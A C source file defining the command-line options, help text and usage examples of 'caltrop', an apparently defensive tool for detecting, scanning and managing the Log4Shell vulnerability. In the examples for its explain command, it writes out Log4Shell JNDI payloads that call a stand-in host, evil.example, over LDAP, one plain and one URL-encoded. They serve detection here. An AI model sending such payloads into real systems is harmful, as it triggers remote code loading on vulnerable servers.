#include "cli/command.h"
#include "cli/scan_run.h"

#include <string.h>

static const struct ct_option options[] = {
    {CT_OPT_HELP, "help", 'h', NULL, "show this help"},
    {CT_OPT_FOLLOW, "follow", 'f', NULL, "start at the end of the logs and show attempts as they come, through rotation, new logs of folders and patterns too; stop with Ctrl-C"},
    {CT_OPT_STATE, "state", 0, "FILE", "remember positions in FILE and go on there next time, through rotation"},
    {CT_OPT_JOURNAL, "journal", 0, NULL, "read this host's systemd journal, besides any files named"},
    {CT_OPT_JOURNAL_DIR, "journal-dir", 0, "DIR", "read the systemd journal files in DIR instead of this host's"},
    {CT_OPT_LOG_FORMAT, "log-format", 0, "NAME", "take every line as NAME instead of recognising it (see Log formats)"},
    {CT_OPT_PROFILE, "profile", 0, "VERSION", "judge as this Log4j version alone, e.g. 2.14.1"},
    {CT_OPT_DECODE, "decode", 0, "auto|none", "search over decodings (auto, the default) or judge the text as it stands"},
    {CT_OPT_MIN_GRADE, "min-grade", 0, "GRADE", "leave out grades below: rule, leak (default), dos, attempt, reach, exploit"},
    {CT_OPT_SINCE, "since", 0, "TIME", "leave out lines before TIME (2021-12-10T14:00Z, or 2h, 30m, 1d ago)"},
    {CT_OPT_UNTIL, "until", 0, "TIME", "leave out lines at or after TIME"},
    {CT_OPT_TRUSTED_PROXY, "trusted-proxy", 0, "CIDR", "believe X-Forwarded-For from these addresses; repeatable"},
    {CT_OPT_INDICATORS, "indicators", 0, "FILE", "write every callback host, address and port to FILE"},
    {CT_OPT_CALLBACKS, "callbacks", 0, "FILE", "a DNS, proxy or flow log of yours: attempts whose callback stands in it come first"},
    {CT_OPT_OWN_SCANNERS, "own-scanners", 0, "FILE", "callback domains or addresses of your own scanners, one a line: labelled, still counted"},
    {CT_OPT_JSON, "json", 0, NULL, "one ECS event a line on stdout; same as --output ecs"},
    {CT_OPT_OUTPUT, "output", 0, "FORMAT", "table (default), ecs, csv or sarif"},
    {CT_OPT_NO_HEADER, "no-header", 0, NULL, "csv without its header line"},
    {CT_OPT_UNMASKED, "unmasked", 0, NULL, "show tokens and credentials of query strings instead of ***"},
    {CT_OPT_TO, "to", 0, "URL", "also send campaigns to file:PATH, syslog:HOST, journald:, https://..., unix:PATH, smtp://HOST?from=&to=, slack+https://... or pagerduty+https://...: first sight at once, then at widening intervals; repeatable"},
    {CT_OPT_DATA_DIR, "data-dir", 0, "DIR", "where the store, events not delivered yet and originals of files changed are kept (or CALTROP_DATA_DIR)"},
    {CT_OPT_CA_FILE, "ca-file", 0, "FILE", "certificates that https outlets trust instead of the system's"},
    {CT_OPT_TOKEN_FILE, "token-file", 0, "FILE", "bearer token for https outlets"},
    {CT_OPT_JOBS, "jobs", 'j', "N", "threads (default: one per processor, at most 8)"},
    {CT_OPT_VERBOSE, "verbose", 'v', NULL, "more of it: every attempt (detect), every copy with its evidence (scan), how it was built (version)"},
    {CT_OPT_QUIET, "quiet", 'q', NULL, "no summary, no progress and no notes; complaints still come"},
    {CT_OPT_EXCLUDE, "exclude", 0, "GLOB", "leave out what matches: with a slash the whole path, else the last name; repeatable"},
    {CT_OPT_INCLUDE_NETWORK, "include-network", 0, NULL, "also read network file systems (NFS, CIFS, sshfs ...)"},
    {CT_OPT_PROCESSES, "processes", 0, NULL, "look into running processes too (the default for a whole host as root)"},
    {CT_OPT_NO_PROCESSES, "no-processes", 0, NULL, "look at files only"},
    {CT_OPT_FAMILIES, "families", 0, "all|zip", "which containers are opened: all (default), or the zip family alone, which is fastest"},
    {CT_OPT_FINGERPRINTS, "fingerprints", 0, "FILE", "more products to be told by their classes, in the format of docs/fingerprints.md; repeatable"},
    {CT_OPT_ADVISORIES, "advisories", 0, "PATH", "match components with these OSV records: a file, a folder, or an archive of them; repeatable"},
    {CT_OPT_SUSPECT, "suspect", 0, "PURL", "find a package before any advisory does: pkg:maven/org.example/thing@[1.0,2.3); repeatable"},
    {CT_OPT_SUSPECT_CLASS, "suspect-class", 0, "CLASS", "find this class wherever it is, like org/example/Bad; repeatable"},
    {CT_OPT_NICE, "nice", 0, "FILES/MB", "at most so many files and megabytes a second, at the lowest priority: 500/20, 500 or /20"},
    {CT_OPT_IMAGE, "image", 0, "FILE", "look into a container image instead: docker save, or an OCI layout (tar or folder)"},
    {CT_OPT_SBOM, "sbom", 0, "FILE", "write all components to FILE: CycloneDX 1.6 (.cdx.json, .json) or SPDX 2.3 (.spdx.json)"},
    {CT_OPT_SBOM_FORMAT, "sbom-format", 0, "FORMAT", "cyclonedx or spdx, whatever the file is called"},
    {CT_OPT_FIX, "fix", 0, NULL, "show which classes can be taken out, file by file, and what that mitigates; changes nothing"},
    {CT_OPT_APPLY, "apply", 0, NULL, "with --fix: do it; originals are kept in the data directory"},
    {CT_OPT_UNDO, "undo", 0, "ID", "put everything back that the run ID of --fix --apply changed, to the byte"},
    {CT_OPT_COMPARE, "compare", 0, "FILE", "say what changed since the report in FILE (--json of an earlier scan)"},
    {CT_OPT_EXPECT, "expect", 0, "FILE", "report: the hosts that should have answered, one a line; those without a report are silent"},
    {CT_OPT_ENVIRONMENT, "environment", 0, "NAME", "development, staging, production or unknown"},
    {CT_OPT_EXPOSURE, "exposure", 0, "NAME", "public, internal, receives-public-input (it reads logs or messages that the public causes) or unknown"},
    {CT_OPT_OWNER, "owner", 0, "WHO", "who answers for it"},
    {CT_OPT_CRITICALITY, "criticality", 0, "LEVEL", "low, medium, high or critical"},
    {CT_OPT_TAG, "tag", 0, "TAG", "a word of your own; repeatable"},
    {CT_OPT_MAP, "map", 0, "FIELD=COLUMN", "which column of the list holds a field, or which of its words means ours: name=Hostname,environment.PRD=production; repeatable"},
    {CT_OPT_ACTOR, "actor", 0, "WHO", "who does this, for the timeline (default: SUDO_USER, or the user)"},
    {CT_OPT_WHY, "why", 0, "TEXT", "the reason, for the timeline"},
    {CT_OPT_VERIFY, "verify", 0, NULL, "say whether an entry was altered or is missing, and print the last hash"},
    {CT_OPT_RENAME, "rename", 0, "NAME", "set: another name, for one that two machines claim"},
    {CT_OPT_ALL, "all", 0, NULL, "retired or ended ones too"},
    {CT_OPT_NAME, "name", 0, "ID", "what a vulnerability is called before it has a number: LOCAL-1"},
    {CT_OPT_PACKAGE, "package", 0, "PURL", "the package that is affected: pkg:maven/org.example/thing; repeatable"},
    {CT_OPT_RANGE, "range", 0, "RANGE", "its affected versions: [1.0,2.3), \">=1.0, <2.3\", vers:maven/...; without it every version"},
    {CT_OPT_SEVERITY, "severity", 0, "LEVEL", "low, medium, high or critical"},
    {CT_OPT_SUMMARY, "summary", 0, "TEXT", "what it is, in a line"},
    {CT_OPT_SOURCE, "source", 0, "NAME", "whose records these are (default: by their ids: ghsa, pysec ...)"},
    {CT_OPT_UNPROTECTED, "unprotected", 0, NULL, "only what nothing mitigates"},
    {CT_OPT_OVERDUE, "overdue", 0, NULL, "only what is past its time"},
    {CT_OPT_FRESH, "fresh", 0, "AGE", "how old a complete look may be and still count: 24h, 7d (the default)"},
    {CT_OPT_JSON_OBJECT, "json", 0, NULL, "one JSON object"},
    {CT_OPT_JSON_LINES, "json", 0, NULL, "one JSON object a line; same as --output jsonl"},
    {CT_OPT_LIST_OUTPUT, "output", 0, "FORMAT", "table (default), csv or jsonl"},
    {CT_OPT_TIMELINE_OUTPUT, "output", 0, "FORMAT", "table (default), jsonl or markdown"},
    {CT_OPT_COVERS, "covers", 0, "CVE", "cover this alone, instead of all that is known of the kind; repeatable"},
    {CT_OPT_EVIDENCE, "evidence", 0, "TEXT", "what shows that it is there: a ticket, a rule, a command and its output"},
    {CT_OPT_ENDS, "until", 0, "TIME", "when it ends: 2021-12-24T00:00Z, or 7d, 12h from now"},
    {CT_OPT_CLAIM, "claim", 0, NULL, "cover what the kind is not known to cover, on your word; shown as claimed by you"},
    {CT_OPT_COMPLETE, "complete", 0, NULL, "add: it lists all of the asset, though it does not say so itself"},
    {CT_OPT_ESTATE, "estate", 0, NULL, "export: all assets in use, in one bill"},
    {CT_OPT_BILL_FORMAT, "format", 0, "FORMAT", "export: cyclonedx (1.6, the default) or spdx (2.3)"},
    {CT_OPT_VEX_SOURCE, "source", 0, "NAME", "whose word it is (default: the document's author); export: who says so (default: the actor)"},
    {CT_OPT_VEX_ASSET, "asset", 0, "ASSET", "add: this asset is the product that the document speaks of; export: this asset alone"},
    {CT_OPT_PRODUCT, "product", 0, "ID", "add: which of the document's products the asset is: its id, purl or name"},
    {CT_OPT_VEX_FORMAT, "format", 0, "FORMAT", "export: openvex (the default) or cyclonedx"},
    {CT_OPT_COMPONENT, "component", 0, "PURL", "this component of the asset alone"},
    {CT_OPT_LOOSEN, "loosen", 0, NULL, "due times follow the policy later too; needs --why"},
    {CT_OPT_WITHIN, "within", 0, "TIME", "also what becomes due within so long: 4h, 2d"},
    {CT_OPT_DUE, "due", 0, "TIME", "the new due time: 2021-12-20T17:00Z, or with another zone"},
    {CT_OPT_NOTIFIED, "notified", 0, "TIME", "when you were told of it: 2021-12-10T08:00Z, or 2h ago"},
    {CT_OPT_AUTOMATABLE, "automatable", 0, "yes|no", "whether attacks on it can be automated"},
    {CT_OPT_IMPACT, "impact", 0, "partial|total", "how far it hands over what it is in"},
    {CT_OPT_APPROVER, "approver", 0, "WHO", "who takes the risk"},
    {CT_OPT_AGAINST, "against-assets", 0, NULL, "say for each campaign and asset whether it would have fired there"},
    {CT_OPT_ASSET, "asset", 0, "NAME", "the asset that the log is of (attempts) or that serves it (route add; repeatable)"},
    {CT_OPT_READER, "reader", 0, "NAME", "an asset that reads what the service writes or sends on: a log pipeline, a queue worker; repeatable"},
    {CT_OPT_LOG, "log", 0, "PATTERN", "its log, as 'caltrop detect' names it; * and ? stand for anything"},
    {CT_OPT_HOST, "host", 0, "PATTERN", "its virtual host; * and ? stand for anything"},
    {CT_OPT_SINCE_WHEN, "since", 0, "TIME", "leave out attempts before TIME (2021-12-10T14:00Z, or 2h, 30m, 1d ago)"},
    {CT_OPT_UNTIL_WHEN, "until", 0, "TIME", "leave out attempts at or after TIME"},
    {CT_OPT_INCIDENT_NAME, "name", 0, "NAME", "what it is called (default: INC-1, INC-2 ...)"},
    {CT_OPT_MODE, "mode", 0, "MODE", "normal (default), or incident: its own policy and clocks"},
    {CT_OPT_POLICY, "policy", 0, "NAME", "the policy of mode incident (default: mailgun-incident)"},
    {CT_OPT_ANSWER, "answer", 0, "WHAT", "list (default): a few tempting ports that no service has; all: every TCP port, for hosts that are nothing but a trap; none: the same as --observe"},
    {CT_OPT_ANSWER_PORT, "answer-port", 0, "PORTS", "other ports: 22,80 instead of the list, +9000,-22 beside it; repeatable"},
    {CT_OPT_OBSERVE, "observe", 0, NULL, "hear everything, answer nothing"},
    {CT_OPT_SPARE, "spare", 0, "PORTS", "never answer and never report these, whatever is seen there: ports of services that are down now; repeatable"},
    {CT_OPT_DRY_RUN, "dry-run", 0, NULL, "print the ports, the rules, what is spared and why, and end"},
    {CT_OPT_RECORD, "record", 0, "FILE", "where every contact is written down before it is answered (default: decoy/contacts.ndjson in the data directory; - for stdout)"},
    {CT_OPT_IGNORE, "ignore", 0, "FILE", "contacts nobody is to be told of, such as an in-house scanner's: ADDRESS[/BITS] [tcp/PORT...] [until TIME], one a line"},
    {CT_OPT_QUIET_START, "quiet-start", 0, "TIME", "learn who knocks as a matter of course for so long (10m, 1d) and list it in decoy/background in the data directory, to be confirmed"},
    {CT_OPT_METRICS, "metrics", 0, "PORT", "counts for Prometheus on 127.0.0.1:PORT"},
    {CT_OPT_UNPRIVILEGED, "unprivileged", 0, NULL, "use no privilege even if there is one: plain sockets on high ports"},
    {CT_OPT_KEEP_CREDENTIALS, "keep-credentials", 0, NULL, "record passwords as they are instead of keyed hashes"},
    {CT_OPT_WORKER_UID, "worker-uid", 0, "UID", "user and group number that the worker becomes as root (default 64399)"},
    {CT_OPT_ALERTS_TO, "to", 0, "URL", "also send events to file:PATH, syslog:HOST, journald:, https://..., unix:PATH, or alerts to smtp://HOST?from=&to=, slack+https://..., pagerduty+https://...; repeatable"},
    {CT_OPT_EVENTS, "json", 0, NULL, "events on stdout as ECS, one object a line"},
    {CT_OPT_FOR, "for", 0, "SECONDS", "end after so long"},
    {CT_OPT_CONTACT, "contact", 0, "ADDRESS", "where letters to it go"},
    {CT_OPT_DATA, "data", 0, "TEXT", "what it holds of ours"},
    {CT_OPT_VENDOR_PRODUCT, "product", 0, "NAME", "a product of theirs that we use (add; repeatable), or that an answer is about"},
    {CT_OPT_FROM, "from", 0, "ADDRESS", "your address, for letters"},
    {CT_OPT_DIR, "dir", 0, "DIR", "where letters are written (default: here): .txt, and .eml for any mail program"},
    {CT_OPT_ALL_VENDORS, "all", 0, NULL, "ask, remind: everyone of ours who has not answered; list: also those that only lists name"},
    {CT_OPT_REPORT_OUTPUT, "output", 0, "FORMAT", "html (default), markdown, json, or csv with the columns of CISA's ED 22-02"},
    {CT_OPT_TITLE, "title", 0, "TEXT", "what stands at the head of it"},
    {CT_OPT_SAMPLE, "sample", 0, NULL, "look at the shipped sample only, not at this host's logs"},
    {CT_OPT_SECONDS, "seconds", 0, "N", "how long to look at this host's files (default 60; 0: not at all)"},
};

static const enum ct_option_id detect_options[] = {
    CT_OPT_FOLLOW, CT_OPT_STATE, CT_OPT_JOURNAL, CT_OPT_JOURNAL_DIR, CT_OPT_LOG_FORMAT, CT_OPT_PROFILE, CT_OPT_DECODE,
    CT_OPT_MIN_GRADE, CT_OPT_SINCE, CT_OPT_UNTIL, CT_OPT_TRUSTED_PROXY, CT_OPT_INDICATORS, CT_OPT_CALLBACKS, CT_OPT_OWN_SCANNERS,
    CT_OPT_JSON, CT_OPT_OUTPUT, CT_OPT_NO_HEADER, CT_OPT_UNMASKED, CT_OPT_TO, CT_OPT_DATA_DIR, CT_OPT_CA_FILE, CT_OPT_TOKEN_FILE,
    CT_OPT_JOBS, CT_OPT_VERBOSE, CT_OPT_QUIET, CT_OPT_HELP,
};
static const enum ct_option_id decoy_options[] = {
    CT_OPT_ANSWER, CT_OPT_ANSWER_PORT, CT_OPT_OBSERVE, CT_OPT_SPARE, CT_OPT_DRY_RUN, CT_OPT_RECORD, CT_OPT_ALERTS_TO, CT_OPT_EVENTS, CT_OPT_IGNORE, CT_OPT_QUIET_START,
    CT_OPT_METRICS, CT_OPT_UNPRIVILEGED, CT_OPT_KEEP_CREDENTIALS, CT_OPT_WORKER_UID, CT_OPT_FOR, CT_OPT_DATA_DIR, CT_OPT_CA_FILE, CT_OPT_TOKEN_FILE, CT_OPT_QUIET, CT_OPT_HELP,
};
static const enum ct_option_id scan_options[] = {
    CT_OPT_IMAGE, CT_OPT_EXCLUDE, CT_OPT_INCLUDE_NETWORK, CT_OPT_PROCESSES, CT_OPT_NO_PROCESSES, CT_OPT_FAMILIES, CT_OPT_ADVISORIES, CT_OPT_SUSPECT, CT_OPT_SUSPECT_CLASS, CT_OPT_FINGERPRINTS, CT_OPT_SBOM, CT_OPT_SBOM_FORMAT, CT_OPT_JSON, CT_OPT_OUTPUT,
    CT_OPT_NO_HEADER, CT_OPT_JOBS, CT_OPT_NICE, CT_OPT_COMPARE, CT_OPT_EXPECT, CT_OPT_FIX, CT_OPT_APPLY, CT_OPT_UNDO, CT_OPT_DATA_DIR, CT_OPT_VERBOSE, CT_OPT_QUIET, CT_OPT_HELP,
#ifndef CT_SENSOR
    CT_OPT_ACTOR, CT_OPT_WHY,
#endif
};
static const enum ct_option_id explain_options[] = {CT_OPT_PROFILE, CT_OPT_DECODE, CT_OPT_JSON_OBJECT, CT_OPT_HELP};
#ifndef CT_SENSOR
static const enum ct_option_id affected_options[] = {
    CT_OPT_ENVIRONMENT, CT_OPT_EXPOSURE, CT_OPT_OWNER, CT_OPT_UNPROTECTED, CT_OPT_OVERDUE, CT_OPT_FRESH, CT_OPT_JSON_OBJECT, CT_OPT_VERBOSE, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id why_options[] = {CT_OPT_FRESH, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id changed_options[] = {CT_OPT_SINCE, CT_OPT_VERBOSE, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id advisory_options[] = {
    CT_OPT_NAME, CT_OPT_PACKAGE, CT_OPT_RANGE, CT_OPT_SEVERITY, CT_OPT_SUMMARY, CT_OPT_SOURCE, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id attempts_options[] = {
    CT_OPT_AGAINST, CT_OPT_ASSET, CT_OPT_SINCE_WHEN, CT_OPT_UNTIL_WHEN, CT_OPT_FRESH, CT_OPT_JSON_LINES, CT_OPT_VERBOSE, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id route_options[] = {
    CT_OPT_LOG, CT_OPT_HOST, CT_OPT_ASSET, CT_OPT_READER, CT_OPT_JSON_LINES, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id control_options[] = {
    CT_OPT_COVERS, CT_OPT_CLAIM, CT_OPT_EVIDENCE, CT_OPT_ENDS, CT_OPT_COMPONENT, CT_OPT_ALL, CT_OPT_JSON_LINES, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id sbom_options[] = {CT_OPT_COMPLETE, CT_OPT_ESTATE, CT_OPT_BILL_FORMAT, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id vex_options[] = {
    CT_OPT_VEX_SOURCE, CT_OPT_VEX_ASSET, CT_OPT_PRODUCT, CT_OPT_VEX_FORMAT, CT_OPT_JSON_LINES, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id asset_options[] = {
    CT_OPT_ENVIRONMENT, CT_OPT_EXPOSURE, CT_OPT_OWNER, CT_OPT_CRITICALITY, CT_OPT_TAG, CT_OPT_MAP, CT_OPT_RENAME, CT_OPT_ALL, CT_OPT_JSON_LINES, CT_OPT_LIST_OUTPUT, CT_OPT_NO_HEADER,
    CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id policy_options[] = {CT_OPT_LOOSEN, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id sla_options[] = {
    CT_OPT_WITHIN, CT_OPT_ALL, CT_OPT_ENVIRONMENT, CT_OPT_EXPOSURE, CT_OPT_OWNER, CT_OPT_DUE, CT_OPT_NOTIFIED, CT_OPT_AUTOMATABLE, CT_OPT_IMPACT, CT_OPT_JSON_LINES,
    CT_OPT_LIST_OUTPUT, CT_OPT_NO_HEADER, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id acceptance_options[] = {CT_OPT_APPROVER, CT_OPT_ENDS, CT_OPT_WHY, CT_OPT_JSON_LINES, CT_OPT_ACTOR, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id rollout_options[] = {CT_OPT_SUMMARY, CT_OPT_JSON_LINES, CT_OPT_VERBOSE, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id incident_options[] = {
    CT_OPT_INCIDENT_NAME, CT_OPT_SUMMARY, CT_OPT_MODE, CT_OPT_POLICY, CT_OPT_NOTIFIED, CT_OPT_OWNER, CT_OPT_DUE, CT_OPT_JSON_LINES, CT_OPT_ACTOR, CT_OPT_WHY, CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id vendor_options[] = {
    CT_OPT_CONTACT, CT_OPT_DATA, CT_OPT_VENDOR_PRODUCT, CT_OPT_FROM, CT_OPT_DIR, CT_OPT_DUE, CT_OPT_ENDS, CT_OPT_SUMMARY, CT_OPT_ALL_VENDORS, CT_OPT_JSON_LINES, CT_OPT_ACTOR, CT_OPT_WHY,
    CT_OPT_DATA_DIR, CT_OPT_HELP,
};
static const enum ct_option_id report_options[] = {CT_OPT_REPORT_OUTPUT, CT_OPT_TITLE, CT_OPT_FRESH, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id timeline_options[] = {CT_OPT_SINCE, CT_OPT_UNTIL, CT_OPT_VERIFY, CT_OPT_JSON_LINES, CT_OPT_TIMELINE_OUTPUT, CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id store_options[] = {CT_OPT_DATA_DIR, CT_OPT_HELP};
static const enum ct_option_id up_options[] = {CT_OPT_SAMPLE, CT_OPT_SECONDS, CT_OPT_EXCLUDE, CT_OPT_JOBS, CT_OPT_DATA_DIR, CT_OPT_HELP};
#endif
static const enum ct_option_id version_options[] = {CT_OPT_VERBOSE, CT_OPT_HELP};
#ifndef CT_SENSOR
static const enum ct_option_id help_only[] = {CT_OPT_HELP};
#endif

static const char *const detect_examples[] = {
    "caltrop detect /var/log/nginx/", "every attempt in these logs, compressed ones too",
    "caltrop detect --json access.log.*.gz > attempts.ndjson", "events for another tool",
    "caltrop detect -f --to https://siem.example/in /var/log/nginx/access.log", "watch, and tell a webhook",
    "caltrop detect -q --state /var/lib/detect.state /var/log/nginx/ --json", "from cron: only what is new since the last run",
    NULL,
};
static const char *const decoy_examples[] = {
    "caltrop decoy --dry-run", "what it would answer here, and what it leaves alone",
    "caltrop decoy --to https://siem.example/in", "listen, answer on the list, and tell a webhook",
    "caltrop decoy canary login-form 10.0.0.9:389", "a string that makes a vulnerable program call this decoy",
    NULL,
};
static const char *const scan_examples[] = {
    "caltrop scan /srv /opt", "what is vulnerable below these folders, nested how deep, and what to do",
    "caltrop scan --json > $(hostname).json", "this whole host, for another tool",
    NULL,
};
static const char *const explain_examples[] = {
    "caltrop explain '${${lower:j}ndi:ldap://evil.example/a}'", "what would this do, on which Log4j versions, and why",
    "caltrop explain '%24%7Bjndi%3Aldap%3A//evil.example/a%7D'", "decoding included",
    NULL,
};
#ifndef CT_SENSOR
static const char *const affected_examples[] = {
    "caltrop affected CVE-2021-44228", "what is affected, and what that answer rests on",
    "caltrop affected CVE-2021-44228 --exposure public --unprotected", "what to isolate now",
    NULL,
};
static const char *const why_examples[] = {"caltrop why web-1 CVE-2021-44228", "everything behind one answer", NULL};
static const char *const changed_examples[] = {"caltrop changed --since 2h", "what happened since the last meeting", NULL};
static const char *const advisory_examples[] = {
    "caltrop advisory add osv-maven.zip", "all records of an ecosystem; again, only what differs",
    "caltrop advisory add --name LOCAL-1 --package pkg:maven/a/b --range '[1,2)'", "before anybody has published one",
    "caltrop advisory same LOCAL-1 CVE-2021-44228", "it has got its number",
    NULL,
};
static const char *const attempts_examples[] = {
    "caltrop detect --json /var/log/nginx/ | caltrop attempts import -", "keep what was tried; again, only what is new",
    "caltrop attempts --against-assets", "where it would have fired",
    NULL,
};
static const char *const route_examples[] = {
    "caltrop route add shop --host 'shop.example' --asset web-1 --asset web-2", "two hosts serve it",
    "caltrop route add shop --log '/var/log/nginx/*' --reader logs-1", "and a pipeline reads its log",
    "caltrop route import routes.csv", "service,log,host,asset,role",
    NULL,
};
static const char *const control_examples[] = {
    "caltrop control add web-1 no-lookups --evidence 'unit file, CHG-7' --until 7d", "a flag that holds until the upgrade",
    "caltrop control add queue isolated --evidence 'VLAN 7'", "nothing reaches it, and it reaches nothing",
    "caltrop control list", "what protects what, put in by hand and seen by scans",
    NULL,
};
static const char *const sbom_examples[] = {
    "caltrop sbom add shop bom.json", "what is in it, out of a bill of materials; the next one closes what is gone",
    "caltrop sbom export --estate --format spdx > estate.spdx.json", "all that is known, for another tool",
    NULL,
};
static const char *const vex_examples[] = {
    "caltrop vex add --source Example vendor.csaf.json", "what a vendor says; each statement is kept with its source",
    "caltrop vex add --asset shop --product CSAFPID-0001 vendor.csaf.json", "this asset is that product",
    "caltrop vex export CVE-2021-44228 > ours.openvex.json", "what we say, for others",
    NULL,
};
static const char *const asset_examples[] = {
    "caltrop asset add web-1 --environment production --exposure public", "one asset",
    "caltrop asset import hosts.csv --map name=Host,environment=Stage", "a list that you keep anyway; again and again",
    "caltrop asset list --exposure public --output csv", "what the public reaches",
    NULL,
};
static const char *const policy_examples[] = {
    "caltrop policy list", "the shipped ones and your own, and which is in use",
    "caltrop policy check ours.yaml", "what your own says, and what it leaves out",
    "caltrop policy use ours.yaml --why 'board, 12 December'", "from now on; due times move earlier, never later",
    NULL,
};
static const char *const sla_examples[] = {
    "caltrop sla overdue --exposure public", "what is late where the public reaches",
    "caltrop sla due --within 4h", "for a pipeline: exit status 1 when something is",
    "caltrop sla move web-1 CVE-2021-44228 --due 3d --why 'vendor patch'", "a person's decision, on the timeline",
    NULL,
};
static const char *const acceptance_examples[] = {
    "caltrop acceptance add db CVE-2021-44228 --approver jo --until 7d --why 'off'", "somebody takes the risk, for a time",
    NULL,
};
static const char *const rollout_examples[] = {
    "caltrop rollout start log4j-2.17.1 CVE-2021-44228 CVE-2021-45046", "development is open",
    "caltrop rollout verify log4j-2.17.1 development", "by complete looks whose processes run the new code; says what stands in the way",
    "caltrop rollout stage log4j-2.17.1 staging", "the next gate",
    NULL,
};
static const char *const incident_examples[] = {
    "caltrop incident open CVE-2021-44228 --mode incident --notified 30m", "the clocks run from when you were told",
    "caltrop incident role INC-1 commander jo", "who does what",
    "caltrop incident show INC-1", "clocks, roles, tasks, notes",
    NULL,
};
static const char *const vendor_examples[] = {
    "caltrop vendor import vendors.csv cisagov.yml", "our own list, and what a public one says",
    "caltrop vendor ask --all CVE-2021-45046 --from sec@us.example --due 2d", "a letter to everyone who has not answered",
    "caltrop vendor silent CVE-2021-45046", "who still has not: exit status 1 when somebody",
    "caltrop vendor limit Acme 'no access to the mail gateway' --until 7d", "until they do",
    NULL,
};
static const char *const report_examples[] = {
    "caltrop report --title 'Log4Shell, day 3' > report.html", "one file, with charts; it prints",
    "caltrop report CVE-2021-44228 --output csv", "vendor, application, version, action, and where",
    NULL,
};
static const char *const timeline_examples[] = {
    "caltrop timeline --since 2h", "what happened in the last two hours",
    "caltrop timeline --output markdown > timeline.md", "for the report",
    "caltrop timeline --verify", "whether it is whole",
    NULL,
};
static const char *const store_examples[] = {
    "caltrop store backup /backup/caltrop.db", "a consistent copy, while others go on working",
    "caltrop store check", "the file, its references and the timeline",
    NULL,
};
static const char *const up_examples[] = {"caltrop up", "the main job on this host, no questions", NULL};
#endif

#ifdef CT_SENSOR
ct_scan_import_fn *const ct_scan_import_run = NULL;
#else
ct_scan_import_fn *const ct_scan_import_run = ct_scan_import_command;
#endif

/* The sensor (CT_SENSOR) is for hosts that nothing is installed on: it has what answers there and then. */
static const struct ct_command commands[] = {
#ifndef CT_SENSOR
    {"up", "", "the main job on this host, no questions",
     "Looks for exploitation attempts in this host's own web, mail and application logs, then for vulnerable components in its files and "
     "processes, for a minute at most. Keeps both in the store of the data directory, and shows from there what is open on this host, by when, and which attempts would have "
     "fired on it; opens an incident for what is critical, high or exploited there; then a shipped sample.",
     up_options, sizeof up_options / sizeof *up_options, up_examples, ct_cmd_up},
#endif
    {"detect", "[FILE|DIR|GLOB|-]...", "find exploitation attempts in logs",
     "Reads logs of any size and format, plain or compressed (gzip, zstd, xz, bzip2, lz4), decodes what a request may be wrapped "
     "in, and evaluates each lookup as every Log4j version would. What it reports would fire, reach JNDI, leak values or is "
     "plainly a try; it says on which versions, and whom the attack calls back to. Nothing is resolved, dialled or "
     "fetched.\n\n"
     "Without operands it reads standard input if that is piped, else this host's known logs.\n\n"
     "Grades, highest first: exploit (some Log4j version reaches JNDI with a name that connects), reach (reaches JNDI, cannot "
     "connect as written), attempt (plainly a try that fires nowhere), dos (recursion), leak (asks for values of the host). An "
     "answer of unknown certainty is shown at every grade.",
     detect_options, sizeof detect_options / sizeof *detect_options, detect_examples, ct_cmd_detect},
    {"decoy", "[canary LABEL [HOST[:PORT]]]", "is somebody already inside? listen where nobody should knock",
     "As root it hears every TCP and UDP port, half-open, NULL, FIN and XMAS scans and pings to this host, over IPv4 and IPv6, and answers on a short list of tempting "
     "ports that no service has. A port that a service or a container has, or had in the last 30 days, is never answered, also while that service is down. Without "
     "privileges it answers on a list of high ports, and says what it cannot hear.\n\n"
     "Every contact is written down before it is answered; payloads are judged as by 'caltrop detect', and nothing in them is resolved, dialled or fetched. Who scans is "
     "told once, and again when it grows. 'decoy canary' prints a string that makes a vulnerable program call this decoy, which then names the program's host.\n\n"
     "Once a minute a probe travels the whole way from a packet to an event; when it does not arrive, the decoy says that it is deaf, and why.",
     decoy_options, sizeof decoy_options / sizeof *decoy_options, decoy_examples, ct_cmd_decoy},
    {"scan", "[PATH]... | report FILE... | import [FILE]...", "find vulnerable components wherever they hide",
     "Opens every file below the paths by its bytes, through all that is nested in it, and tells by the classes themselves which "
     "release of a product it is, shaded, renamed or stripped: per CVE affected, mitigated or not settled, each with its evidence. "
     "Says what it did not look at. Nothing found is run or loaded; without --fix --apply nothing is changed.\n\n"
     "Without a path it looks at this whole host. Network and virtual file systems are left out and named; symbolic links are not "
     "followed; FIFOs, devices and sockets are never opened.\n\n"
     "'scan report' reads the --json reports of many hosts and makes one table of them: who answered, who is affected, clean, "
     "incomplete or silent. 'scan import' takes them into the store: assets, components, findings; only a complete look of at least the same scope closes what it "
     "no longer sees. (A folder named report or import is scanned as ./report.)",
     scan_options, sizeof scan_options / sizeof *scan_options, scan_examples, ct_cmd_scan},
    {"explain", "STRING|-", "every decoding and evaluation step of one string",
